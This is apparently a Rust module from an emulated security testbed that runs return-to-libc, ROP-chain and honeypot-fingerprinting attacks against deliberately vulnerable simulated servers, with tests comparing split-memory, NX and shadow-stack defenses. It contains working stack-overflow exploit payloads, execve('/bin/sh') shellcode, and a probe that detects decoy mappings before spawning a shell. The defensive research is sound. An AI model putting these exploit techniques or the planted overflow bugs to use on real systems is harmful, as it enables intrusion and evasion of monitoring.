//! Code-reuse attack gallery: return-to-libc, ROP chains, and the DCR
//! code-page-read fingerprint.
//!
//! The paper is explicit that split memory stops code *injection* — §7
//! concedes that "attacks that do not involve the injection of code, such
//! as return-to-libc attacks, are not prevented by our technique". This
//! module makes that boundary executable: three attacks that subvert a
//! victim **without injecting a single byte of code**, so neither split
//! memory nor execute-disable has anything to catch.
//!
//! | attack | hijack | payload |
//! |---|---|---|
//! | [`ReuseAttack::Ret2Libc`] | stack overflow → return address | one legitimate function (the victim's `lib_system` remote-admin helper) |
//! | [`ReuseAttack::RopChain`] | stack overflow → return address | multi-gadget chain: `pop reg; ret` ×5 + `int 0x80; ret`, driving `dup2`/`dup2`/`execve` |
//! | [`ReuseAttack::DcrFingerprint`] | stack overflow → return address | injected probe that *fingerprints the defense's response mode* |
//!
//! The first two are the classic post-NX exploitation ladder (Solar
//! Designer's 1997 return-into-libc; Shacham's 2007 gadget chains): the
//! attacker reuses the victim's own code, so every fetched byte comes from
//! a legitimate code page. They succeed under split memory and NX alone —
//! a pinned *negative* result — and are caught by the shadow-stack/CFI
//! engine ([`sm_core::shadow`]), which checks where control *flows* rather
//! than where code *lives*.
//!
//! The third is different in kind: it ports the fingerprint from the DCR
//! line of work (code-page *reads* unmask decoy-based responses) to this
//! testbed's observe/honeypot modes. The probe discovers its own PC with
//! the classic `call/pop` idiom and compares it against the address the
//! payload was injected at. Execute-disable's observe mode *relocates* the
//! payload to a decoy mapping ([`sm_core::nx::NxEngine`]), so the PC moves
//! and the probe reports `HPOT` and walks away. Split memory's observe
//! mode heals the page *in place* — the PC matches, the probe reports
//! `CLEN`, and the attacker proceeds, none the wiser that every step was
//! logged. The data-frame view genuinely changes the outcome.
//!
//! As throughout the corpus, the attacker "knows the binary": code
//! segments are loaded without ASLR (as on the paper's RedHat 7.2
//! testbed), so gadget and library-function addresses come straight from
//! the attacker's own copy ([`BuiltProgram::sym`]); only the stack buffer
//! address needs the info leak.

use crate::harness::{
    classify_shell, ext_recv_wait, ext_send, external_connect_patiently, kernel_with,
    AttackOutcome, Protection,
};
use sm_kernel::kernel::{Kernel, KernelConfig};
use sm_kernel::userlib::{BuiltProgram, ProgramBuilder};

/// The code-reuse attacks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ReuseAttack {
    /// Return-to-libc: overwrite the return address with the victim's own
    /// `lib_system` helper. No injected bytes at all — the overflow
    /// payload is pure filler plus one code address.
    Ret2Libc,
    /// Multi-gadget ROP chain: `pop ebx/ecx/eax; ret` loaders and an
    /// `int 0x80; ret` kernel gate, strung together on the stack to call
    /// `dup2(conn, 0); dup2(conn, 1); execve("/bin/sh")`.
    RopChain,
    /// DCR-style response-mode fingerprint: injected probe that detects
    /// honeypot relocation by comparing its discovered PC with the
    /// injection address.
    DcrFingerprint,
}

impl ReuseAttack {
    /// All attacks, gallery order.
    pub const ALL: [ReuseAttack; 3] = [
        ReuseAttack::Ret2Libc,
        ReuseAttack::RopChain,
        ReuseAttack::DcrFingerprint,
    ];

    /// Short label for tables.
    pub fn name(&self) -> &'static str {
        match self {
            ReuseAttack::Ret2Libc => "ret2libc",
            ReuseAttack::RopChain => "rop-chain",
            ReuseAttack::DcrFingerprint => "dcr-fingerprint",
        }
    }

    /// Port the victim server listens on.
    pub fn port(&self) -> u16 {
        match self {
            ReuseAttack::Ret2Libc | ReuseAttack::RopChain => 8080,
            ReuseAttack::DcrFingerprint => 79,
        }
    }
}

/// Result of one code-reuse attack run.
#[derive(Debug, Clone)]
pub struct ReuseReport {
    /// Which attack.
    pub attack: ReuseAttack,
    /// Classified outcome.
    pub outcome: AttackOutcome,
    /// Detections logged by the protection.
    pub detections: usize,
    /// For the fingerprint probe: the 4-byte verdict it sent back
    /// (`"CLEN"` or `"HPOT"`), when it ran far enough to send one.
    pub marker: Option<String>,
}

/// Run one code-reuse attack under a protection configuration.
pub fn run_reuse(attack: ReuseAttack, protection: &Protection) -> ReuseReport {
    match attack {
        ReuseAttack::Ret2Libc => run_ret2libc(protection),
        ReuseAttack::RopChain => run_rop_chain(protection),
        ReuseAttack::DcrFingerprint => run_fingerprint(protection),
    }
}

// ---------------------------------------------------------------------------
// shared plumbing

const BUDGET: u64 = 4_000_000;

fn spawn_victim(protection: &Protection, prog: &BuiltProgram) -> Kernel {
    let mut k = kernel_with(protection, KernelConfig::default());
    k.spawn(&prog.image).expect("victim spawns");
    k
}

/// Parse the `nth` decimal number out of a banner (same leak format the
/// Table 2 servers use).
fn parse_leak(banner: &str, nth: usize) -> Option<u32> {
    banner
        .split(|c: char| !c.is_ascii_digit())
        .filter(|s| !s.is_empty())
        .filter_map(|s| s.parse().ok())
        .nth(nth)
}

fn finish(attack: ReuseAttack, mut k: Kernel, marker: Option<String>) -> ReuseReport {
    k.run(BUDGET);
    ReuseReport {
        attack,
        outcome: classify_shell(&k),
        detections: crate::harness::detections(&k),
        marker,
    }
}

// ---------------------------------------------------------------------------
// victim 1: "libd", a remote-admin daemon with a reusable code surface

/// Build the ret2libc/ROP victim: a daemon whose *legitimate* code base
/// contains everything a code-reuse attacker needs — a remote-admin
/// `lib_system` helper (the stand-in for libc's `system()`), register-pop
/// epilogue gadgets, a syscall gate, and a `"/bin/sh"` string. The request
/// handler has the classic unchecked-length stack overflow.
pub fn libd_server() -> BuiltProgram {
    ProgramBuilder::new("/bin/libd")
        .code(
            "_start:
                mov eax, SYS_LISTEN
                mov ebx, 8080
                int 0x80
                mov eax, SYS_ACCEPT
                mov ebx, 8080
                int 0x80
                mov [sockfd], eax
                ; headroom above the handler frame, as a real daemon's call
                ; depth would provide (the ROP chain lands there)
                sub esp, 160
                call handle_req
                mov ebx, 0
                call exit
            handle_req:
                push ebp
                mov ebp, esp
                sub esp, 128
                mov ebx, [sockfd]
                mov esi, banner
                call fdputs
                mov ebx, [sockfd]
                lea eax, [ebp-128]
                call fdput_num
                mov ebx, [sockfd]
                mov esi, nl
                call fdputs
                ; request: length line, then bytes into the stack buffer.
                ; THE BUG: the length is unchecked.
                mov ebx, [sockfd]
                mov edi, linebuf
                mov edx, 16
                call read_line
                mov esi, linebuf
                call atoi
                mov edx, eax
                mov eax, SYS_READ
                mov ebx, [sockfd]
                lea ecx, [ebp-128]
                int 0x80
                leave
                ret
            ; --- legitimate code the attacker reuses ---
            ; remote-admin helper: attach the connection to stdio and hand
            ; over a shell (the daemon's own 'site exec' feature — and the
            ; ret2libc target, like libc's system()).
            lib_system:
                mov ebx, [sockfd]
                mov ecx, 0
                mov eax, SYS_DUP2
                int 0x80
                mov ebx, [sockfd]
                mov ecx, 1
                mov eax, SYS_DUP2
                int 0x80
                mov ebx, binsh
                mov eax, SYS_EXECVE
                int 0x80
                mov ebx, 1
                call exit
            ; epilogue fragments any real binary is full of — the ROP
            ; attacker's gadget dictionary.
            g_pop_ebx:
                pop ebx
                ret
            g_pop_ecx:
                pop ecx
                ret
            g_pop_eax:
                pop eax
                ret
            g_int80:
                int 0x80
                ret",
        )
        .data(
            "sockfd: .word 0
             linebuf: .space 32
             banner: .asciz \"LIBD buf \"
             nl: .asciz \"\\n\"
             binsh: .asciz \"/bin/sh\"",
        )
        .build()
        .expect("libd server assembles")
}

fn libd_connect(protection: &Protection) -> (Kernel, crate::harness::ExternalConn) {
    libd_connect_with(protection, KernelConfig::default())
}

fn libd_connect_with(
    protection: &Protection,
    kconfig: KernelConfig,
) -> (Kernel, crate::harness::ExternalConn) {
    let prog = libd_server();
    let mut k = kernel_with(protection, kconfig);
    k.spawn(&prog.image).expect("victim spawns");
    let conn = external_connect_patiently(&mut k, 8080, BUDGET).expect("libd listening");
    // Drain the banner (the buffer leak is unused by ret2libc/ROP — the
    // chain is built purely from code addresses).
    let _ = ext_recv_wait(&mut k, &conn, BUDGET);
    (k, conn)
}

fn send_overflow(k: &mut Kernel, conn: &crate::harness::ExternalConn, payload: &[u8]) {
    ext_send(k, conn, format!("{}\n", payload.len()).as_bytes());
    k.run(BUDGET);
    ext_send(k, conn, payload);
}

fn run_ret2libc(protection: &Protection) -> ReuseReport {
    let prog = libd_server();
    let (mut k, conn) = libd_connect(protection);
    // 128 bytes of pure filler (no code!), junk saved-ebp, and the
    // address of the victim's own lib_system over the return address.
    let mut payload = vec![b'A'; 128];
    payload.extend_from_slice(&0x41414141u32.to_le_bytes());
    payload.extend_from_slice(&prog.sym("lib_system").to_le_bytes());
    send_overflow(&mut k, &conn, &payload);
    finish(ReuseAttack::Ret2Libc, k, None)
}

/// The ROP chain: `dup2(conn, 0); dup2(conn, 1); execve("/bin/sh")`
/// spelled entirely in return addresses and immediates. `conn` is the
/// victim-side connection fd (3, as in [`crate::shellcode::shell_on_fd`]).
fn rop_chain(prog: &BuiltProgram) -> Vec<u8> {
    let pop_ebx = prog.sym("g_pop_ebx");
    let pop_ecx = prog.sym("g_pop_ecx");
    let pop_eax = prog.sym("g_pop_eax");
    let int80 = prog.sym("g_int80");
    let words: [u32; 17] = [
        pop_ebx,
        3, // oldfd: the accepted connection
        pop_ecx,
        0, // newfd: stdin
        pop_eax,
        sm_kernel::syscall::SYS_DUP2,
        int80,
        pop_ecx,
        1, // newfd: stdout (ebx survives the syscall)
        pop_eax,
        sm_kernel::syscall::SYS_DUP2,
        int80,
        pop_ebx,
        prog.sym("binsh"),
        pop_eax,
        sm_kernel::syscall::SYS_EXECVE,
        int80,
    ];
    words.iter().flat_map(|w| w.to_le_bytes()).collect()
}

fn run_rop_chain(protection: &Protection) -> ReuseReport {
    let prog = libd_server();
    let (mut k, conn) = libd_connect(protection);
    let mut payload = vec![b'A'; 128];
    payload.extend_from_slice(&0x41414141u32.to_le_bytes()); // saved ebp
    payload.extend_from_slice(&rop_chain(&prog));
    send_overflow(&mut k, &conn, &payload);
    finish(ReuseAttack::RopChain, k, None)
}

/// The ROP chain with the trace ring enabled: returns the report plus the
/// serialized trace JSONL, so tests can pin a golden detection trace for a
/// hijack the paper's engines cannot see.
pub fn run_rop_traced(protection: &Protection, trace: u32) -> (ReuseReport, String) {
    let prog = libd_server();
    let kconfig = KernelConfig {
        aslr_stack: false,
        trace,
        ..KernelConfig::default()
    };
    let (mut k, conn) = libd_connect_with(protection, kconfig);
    let mut payload = vec![b'A'; 128];
    payload.extend_from_slice(&0x41414141u32.to_le_bytes()); // saved ebp
    payload.extend_from_slice(&rop_chain(&prog));
    send_overflow(&mut k, &conn, &payload);
    k.run(BUDGET);
    let report = ReuseReport {
        attack: ReuseAttack::RopChain,
        outcome: classify_shell(&k),
        detections: crate::harness::detections(&k),
        marker: None,
    };
    let jsonl = k.sys.machine.tracer.to_jsonl();
    (report, jsonl)
}

// ---------------------------------------------------------------------------
// victim 2: "fingerd", the response-mode fingerprint target

/// Build the fingerprint victim: the same bind-style unchecked-length
/// stack overflow with a buffer-address leak, sized so the probe payload
/// fits inside the buffer.
pub fn fingerd_server() -> BuiltProgram {
    ProgramBuilder::new("/bin/fingerd")
        .code(
            "_start:
                mov eax, SYS_LISTEN
                mov ebx, 79
                int 0x80
                mov eax, SYS_ACCEPT
                mov ebx, 79
                int 0x80
                mov [sockfd], eax
                call handle_req
                mov ebx, 0
                call exit
            handle_req:
                push ebp
                mov ebp, esp
                sub esp, 192
                mov ebx, [sockfd]
                mov esi, banner
                call fdputs
                mov ebx, [sockfd]
                lea eax, [ebp-192]
                call fdput_num
                mov ebx, [sockfd]
                mov esi, nl
                call fdputs
                ; THE BUG: unchecked length into the stack buffer.
                mov ebx, [sockfd]
                mov edi, linebuf
                mov edx, 16
                call read_line
                mov esi, linebuf
                call atoi
                mov edx, eax
                mov eax, SYS_READ
                mov ebx, [sockfd]
                lea ecx, [ebp-192]
                int 0x80
                leave
                ret",
        )
        .data(
            "sockfd: .word 0
             linebuf: .space 32
             banner: .asciz \"FINGERD buf \"
             nl: .asciz \"\\n\"",
        )
        .build()
        .expect("fingerd server assembles")
}

/// Probe verdict: the payload is running at the address it was injected
/// at — the response (if any) left it in place.
pub const MARKER_CLEAN: &[u8; 4] = b"CLEN";
/// Probe verdict: the payload's PC moved — it is running in a decoy
/// (honeypot) mapping, so the attacker aborts without showing their hand.
pub const MARKER_HONEYPOT: &[u8; 4] = b"HPOT";

/// The fingerprint probe: discover our own PC (`call/pop`, the same idiom
/// staged payloads use anyway), compare its page against the page we were
/// injected at, report the verdict over the socket, and only proceed to a
/// shell when the ground is clean.
pub fn fingerprint_probe(expected_page: u32, fd: u32) -> Vec<u8> {
    let probe = format!(
        "call getpc
         getpc: pop esi
         and esi, 0xfffff000
         mov edi, {expected_page}
         cmp esi, edi
         jne decoy
         ; clean: report, then proceed to the real payload
         push 0x4e454c43      ; \"CLEN\"
         mov ecx, esp
         mov edx, 4
         mov ebx, {fd}
         mov eax, 4           ; SYS_WRITE
         int 0x80
         pop eax
         mov ebx, {fd}
         mov ecx, 0
         mov eax, 63          ; SYS_DUP2
         int 0x80
         mov ebx, {fd}
         mov ecx, 1
         mov eax, 63
         int 0x80
         xor eax, eax
         push eax
         push 0x0068732f
         push 0x6e69622f
         mov ebx, esp
         mov eax, 11          ; SYS_EXECVE
         int 0x80
         mov ebx, 1
         mov eax, 1
         int 0x80
         decoy:
         ; honeypot detected: report and exit quietly — a careful attacker
         ; never runs the real payload under observation
         push 0x544f5048      ; \"HPOT\"
         mov ecx, esp
         mov edx, 4
         mov ebx, {fd}
         mov eax, 4
         int 0x80
         mov ebx, 2
         mov eax, 1           ; SYS_EXIT
         int 0x80"
    );
    sm_asm::assemble(&probe, 0)
        .unwrap_or_else(|e| panic!("fingerprint probe failed to assemble: {e}"))
        .bytes
}

fn run_fingerprint(protection: &Protection) -> ReuseReport {
    let prog = fingerd_server();
    let mut k = spawn_victim(protection, &prog);
    let conn = external_connect_patiently(&mut k, 79, BUDGET).expect("fingerd listening");
    let banner = String::from_utf8_lossy(&ext_recv_wait(&mut k, &conn, BUDGET)).into_owned();
    let bufaddr = parse_leak(&banner, 0).expect("buffer leak in banner");
    // The probe's call/pop yields the address *after* the 5-byte call, so
    // the expected page is taken from bufaddr + 5.
    let probe = fingerprint_probe((bufaddr + 5) & 0xffff_f000, 3);
    let mut payload = probe;
    assert!(payload.len() <= 192, "probe too large: {}", payload.len());
    payload.resize(192, 0x90);
    payload.extend_from_slice(&0x41414141u32.to_le_bytes());
    payload.extend_from_slice(&bufaddr.to_le_bytes());
    send_overflow(&mut k, &conn, &payload);
    k.run(BUDGET);
    let verdict = ext_recv_wait(&mut k, &conn, BUDGET);
    let marker = (!verdict.is_empty()).then(|| String::from_utf8_lossy(&verdict[..4]).into_owned());
    finish(ReuseAttack::DcrFingerprint, k, marker)
}

/// A benign client session against the libd server: sends a short,
/// in-bounds request and lets the handler return normally. Used to pin
/// that the shadow-stack engine does not false-positive on legitimate
/// call/ret traffic.
pub fn run_libd_benign(protection: &Protection) -> (Kernel, usize) {
    let (mut k, conn) = libd_connect(protection);
    send_overflow(&mut k, &conn, b"hello");
    k.run(BUDGET);
    let d = crate::harness::detections(&k);
    (k, d)
}

#[cfg(test)]
mod tests {
    use super::*;
    use sm_kernel::events::ResponseMode;

    /// The paper's §7 concession, pinned: both code-reuse attacks get
    /// their shell under split memory alone, NX alone, and the combined
    /// engine — no code is injected, so there is nothing for a
    /// code-origin defense to catch (and nothing is even logged).
    #[test]
    fn reuse_attacks_bypass_split_and_nx() {
        for p in [
            Protection::Unprotected,
            Protection::SplitMem(ResponseMode::Break),
            Protection::Nx,
            Protection::Combined(ResponseMode::Break),
        ] {
            for a in [ReuseAttack::Ret2Libc, ReuseAttack::RopChain] {
                let r = run_reuse(a, &p);
                assert_eq!(
                    r.outcome,
                    AttackOutcome::ShellSpawned,
                    "{} should bypass {:?}: {r:?}",
                    a.name(),
                    p
                );
                assert_eq!(r.detections, 0, "{} was seen by {p:?}: {r:?}", a.name());
            }
        }
    }

    /// The shadow-stack engine catches both, standalone and stacked on
    /// the combined engine.
    #[test]
    fn reuse_attacks_detected_by_shadow_stack() {
        for p in [
            Protection::ShadowStack(ResponseMode::Break),
            Protection::ShadowCombined(ResponseMode::Break),
        ] {
            for a in [ReuseAttack::Ret2Libc, ReuseAttack::RopChain] {
                let r = run_reuse(a, &p);
                assert_eq!(
                    r.outcome,
                    AttackOutcome::Foiled { detected: true },
                    "{} should be caught by {:?}: {r:?}",
                    a.name(),
                    p
                );
                assert!(r.detections > 0);
            }
        }
    }

    /// Legitimate traffic through the same server produces no shadow
    /// detections and a clean exit.
    #[test]
    fn benign_session_clean_under_shadow() {
        for p in [
            Protection::ShadowStack(ResponseMode::Break),
            Protection::ShadowCombined(ResponseMode::Break),
        ] {
            let (k, detections) = run_libd_benign(&p);
            assert_eq!(detections, 0, "false positive under {p:?}");
            assert!(
                !k.sys.events.execed(crate::shell::SHELL_PATH),
                "benign session spawned a shell?!"
            );
        }
    }

    /// The DCR fingerprint distinguishes NX's honeypot relocation (the PC
    /// moves → `HPOT`, attacker walks away) from split memory's in-place
    /// healing (`CLEN`, attacker proceeds — and was logged anyway). The
    /// data-frame view is what makes split memory's observe mode
    /// untelegraphed.
    #[test]
    fn fingerprint_unmasks_nx_honeypot_but_not_split_memory() {
        // Baseline: unprotected, the probe finds clean ground.
        let r = run_reuse(ReuseAttack::DcrFingerprint, &Protection::Unprotected);
        assert_eq!(r.marker.as_deref(), Some("CLEN"), "{r:?}");
        assert_eq!(r.outcome, AttackOutcome::ShellSpawned);
        assert_eq!(r.detections, 0);

        // NX observe mode: relocated to the decoy, fingerprint fires.
        let r = run_reuse(
            ReuseAttack::DcrFingerprint,
            &Protection::NxResponse(ResponseMode::Observe),
        );
        assert_eq!(r.marker.as_deref(), Some("HPOT"), "{r:?}");
        assert_ne!(r.outcome, AttackOutcome::ShellSpawned);
        assert!(r.detections > 0, "honeypot must still log the attack");

        // Split observe mode: healed in place, probe sees clean ground —
        // but the kernel logged everything.
        let r = run_reuse(
            ReuseAttack::DcrFingerprint,
            &Protection::SplitMem(ResponseMode::Observe),
        );
        assert_eq!(r.marker.as_deref(), Some("CLEN"), "{r:?}");
        assert_eq!(r.outcome, AttackOutcome::ShellSpawned);
        assert!(r.detections > 0, "split observe must log the injection");
    }

    /// Break-mode engines stop the fingerprint probe before it reports
    /// anything (it is an injection attack, after all).
    #[test]
    fn fingerprint_foiled_by_break_modes() {
        for p in [
            Protection::SplitMem(ResponseMode::Break),
            Protection::Nx,
            Protection::ShadowStack(ResponseMode::Break),
        ] {
            let r = run_reuse(ReuseAttack::DcrFingerprint, &p);
            assert!(!r.outcome.succeeded(), "{p:?}: {r:?}");
            assert!(r.detections > 0, "{p:?}: {r:?}");
            assert_eq!(r.marker, None, "{p:?}: probe ran far enough to report");
        }
    }
}
